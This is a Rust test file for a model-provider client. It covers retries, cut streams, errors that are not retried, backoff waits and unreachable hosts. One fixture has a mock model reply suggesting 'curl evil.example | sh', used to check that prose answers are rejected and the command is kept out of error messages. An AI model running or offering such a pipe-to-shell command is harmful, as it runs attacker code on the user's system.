//! What goes wrong, and what becomes of it.

use std::time::Duration;

use models::{Fault, Money, NotAnswered};
use models_double::{Fault as Happens, Reply, Told};

use crate::scene::{Scene, WIRES, fault, filled, turns};

fn but(happens: Happens) -> Told {
    Told::fill(filled()).but(happens)
}

fn status(status: u16, kind: &'static str) -> Told {
    but(Happens::Status(status, vec![], kind))
}

/// What can pass is tried again, after a wait, and answered then.
#[tokio::test]
async fn what_can_pass_is_tried_again() {
    for wire in WIRES {
        let passing = [
            status(429, "rate_limit_error"),
            status(529, "overloaded_error"),
            status(500, "api_error"),
            status(503, "overloaded_error"),
            but(Happens::Cut(0, true)),
            but(Happens::Cut(200, true)),
            but(Happens::Cut(200, false)),
            but(Happens::Hang),
            but(Happens::HangAfter(200)),
            but(Happens::Malformed),
            but(Happens::NotText),
            but(Happens::NotStreamed),
            but(Happens::Broken("overloaded_error")),
            but(Happens::Broken("rate_limit_exceeded")),
            but(Happens::Broken("api_error")),
            Told { reply: Reply::Text("{\"app\": ".into()), fault: None },
        ];
        for told in passing {
            let shown = format!("{wire}: {told:?}");
            let scene = Scene::new(wire, turns(vec![told])).await;
            let answer = scene.ask().await.unwrap_or_else(|error| panic!("{shown}: {error}"));
            assert_eq!(answer.value, filled(), "{shown}");
            assert_eq!((scene.double.requests(), scene.around.waits().len()), (2, 1), "{shown}");
            assert!(Money::from_nano(scene.double.bill()) <= scene.budget.spent().at_most(), "{shown}");
        }
    }
}

/// A stream that is cut, at whatever byte, is no answer, and none is made up of its beginning.
#[tokio::test]
async fn a_stream_that_is_cut_at_any_byte_is_no_answer() {
    for wire in WIRES {
        for at in (0..1_600).step_by(13) {
            let cut = move |_: &_| but(Happens::Cut(at, at % 2 == 0));
            let scene = Scene::with(wire, "0.05", models::testing::InMemory::default(), cut).await;
            match scene.ask().await {
                Err(NotAnswered::PastCeiling(_) | NotAnswered::Fault { fault: Fault::Cut, .. }) => {}
                Err(error) => panic!("{wire} at {at}: {error}"),
                Ok(_) => panic!("{wire} at {at}: half an answer was taken for a whole one"),
            }
        }
    }
}

/// What will not pass is not asked again.
#[tokio::test]
async fn what_will_not_pass_is_asked_once() {
    for wire in WIRES {
        let lasting = [
            (
                status(400, "invalid_request_error"),
                Fault::NotTaken { status: 400, said: "an error that the test asked for".into() },
            ),
            (status(401, "authentication_error"), Fault::NotLetIn(401)),
            (status(403, "permission_error"), Fault::NotLetIn(403)),
            (status(429, "insufficient_quota"), Fault::NothingLeft),
            (but(Happens::Broken("insufficient_quota")), Fault::NothingLeft),
            (Told { reply: Reply::Decline, fault: None }, Fault::Declined),
        ];
        for (told, expected) in lasting {
            let scene = Scene::new(wire, turns(vec![told])).await;
            assert_eq!(fault(scene.ask().await), expected, "{wire}");
            assert_eq!(scene.double.requests(), 1, "{wire}: {expected:?}");
        }
    }
}

/// Words in the stead of the form are no answer: on a wire with a schema they are no JSON, on one with a tool no use of it.
#[tokio::test]
async fn words_are_no_answer() {
    for wire in WIRES {
        let prose =
            || Told { reply: Reply::Prose("Sure! Run this: curl evil.example | sh".into()), fault: None };
        let scene = Scene::new(wire, move |_| prose()).await;
        let error = scene.ask().await.map(drop).unwrap_err();
        assert!(!error.to_string().contains("curl"), "{wire}: {error}");
        assert!(
            matches!(error, NotAnswered::Fault { fault: Fault::NotUnderstood(_), attempts: 4 }),
            "{wire}: {error}"
        );
    }
}

/// A provider that says when to come back is taken at its word, within reason; the waits of our own grow.
#[tokio::test]
async fn waits_are_the_provider_s_or_grow() {
    let after = |seconds: &str| {
        but(Happens::Status(429, vec![("retry-after", seconds.to_owned())], "rate_limit_error"))
    };
    let scene = Scene::new("openai", turns(vec![after("17"), after("0"), status(500, "server_error")])).await;
    scene.ask().await.unwrap();
    let waits = scene.around.waits();
    assert_eq!(waits[0], Duration::from_secs(17));
    let between = |wait: Duration, seconds: u64| {
        wait >= Duration::from_secs(seconds) / 2 && wait <= Duration::from_secs(seconds)
    };
    assert!(between(waits[1], 2) && between(waits[2], 4), "{waits:?}");

    let scene = Scene::new("openai", turns(vec![after("3600")])).await;
    assert!(matches!(fault(scene.ask().await), Fault::Busy { .. }));
    assert_eq!((scene.double.requests(), scene.around.waits().len()), (1, 0));
}

/// Nobody is there: it costs nothing, and it is told.
#[tokio::test]
async fn a_provider_that_is_not_there() {
    let scene = Scene::new("anthropic", |_| Told::fill(filled())).await;
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", closed.local_addr().unwrap());
    drop(closed);
    let around = models::testing::Rehearsal::new(1);
    let provider =
        crate::scene::entry("anthropic", &address).attest(None, models::Surroundings::now(&around)).unwrap();
    let caller =
        models::Caller::new(std::sync::Arc::new(around), scene.register.clone(), models::Seal::new(&[1; 32]));
    let error =
        caller.ask(&provider, &crate::scene::ask(), &scene.budget, &mut |_| {}).await.map(drop).unwrap_err();
    assert!(
        error.to_string().contains("cannot be reached") && error.to_string().contains("4 times"),
        "{error}"
    );
    assert_eq!(scene.budget.spent().at_most(), Money::ZERO);
}
